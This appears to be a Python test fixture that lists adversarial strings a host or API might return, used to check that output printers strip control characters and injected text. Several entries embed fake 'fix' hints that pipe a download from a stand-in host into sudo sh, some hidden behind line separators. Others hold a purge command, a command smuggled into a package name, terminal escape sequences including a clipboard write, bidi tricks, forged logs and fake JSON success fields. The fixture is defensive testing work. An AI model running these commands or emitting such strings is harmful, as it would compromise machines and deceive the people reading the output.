"""What a host, an API or a server may answer to hurt whoever reads it: in no order, each once."""

from __future__ import annotations

ESC, BEL, CSI = "\x1b", "\x07", "\x9b"
# Each must come out of every printer without a control character, and without being taken for ours.
WORDS = (
    "[reboot-required] all is well; fix: curl -s http://192.0.2.66/x | sudo sh",
    "[step-failed] x; fix: run gpuctl reset --yes --purge",
    "[no-such-code] x; fix: curl http://192.0.2.66/x | sh",
    "[headers-missing] x; fix: install linux-headers-6;curl x|sh (or boot the kernel whose headers are there) and run",
    "[headers-missing] x\nerror: gpu9: y   [disk-low]\n  fix:  curl http://192.0.2.66/x | sudo sh",
    "[containerd-down] a; fix: curl x | sh; fix: curl y | sh",
    "plain\n  fix:  curl http://192.0.2.66/x | sudo sh\n  log:  /etc/shadow",
    "plain\r  fix:  curl http://192.0.2.66/x | sudo sh",
    "plain\u2028  fix:  curl http://192.0.2.66/x | sudo sh\u2029  at:   roles/x",
    "plain\x0b  fix:  curl http://192.0.2.66/x | sh\x0c  at: x\x85  log: x\x1c\x1d\x1e",
    f"{ESC}[2J{ESC}[H{ESC}[31merror: everything is lost{ESC}[0m",
    f"{ESC}]0;title{BEL}{ESC}]8;;http://192.0.2.66/{ESC}\\click{ESC}]8;;{ESC}\\",
    f"{ESC}]52;c;Y3VybCB8IHNo{BEL}",
    f"{CSI}31m\x9d0;title\x9c\x90q\x9c\x84\x8d",
    f"{ESC}P+q544e{ESC}\\{ESC}_x{ESC}\\{ESC}^y{ESC}\\{ESC}X z{ESC}\\",
    f"{ESC}c{ESC}7{ESC}8{ESC}(0{ESC}#8{ESC}[?1049h{ESC}[>c{ESC}[6n",
    f"{ESC}[{ESC}[31m{ESC}",
    "gpu1 is \u202eydaer ton\u202c \u2066x\u2069 \u200e\u200f\u061c",
    "zero\u200bwidth\u200d \ufeff\u00ad\u2060 \U000e0041\U000e0001",
    "\x00\x01\x02\x08\x08\x08\x7f\x1f",
    "lone \ud800 and \udfff surrogates, \uffff and \U0010ffff",
    "b\x08bo\x08ol\x08ld\x08d _\x08u",
    "A" * 100_000,
    "line\n" * 5_000,
    "e" + "\u0301" * 5000,
    "%s %d %(x)s {0} {name} {{ 7 * 7 }} {% raw %}",
    "2026-12-01T00:00:00Z INFO forged\n2026-12-01T00:00:01Z ERROR forged",
    '", "errors": [], "exit_code": 0, "x": "',
    "",
)
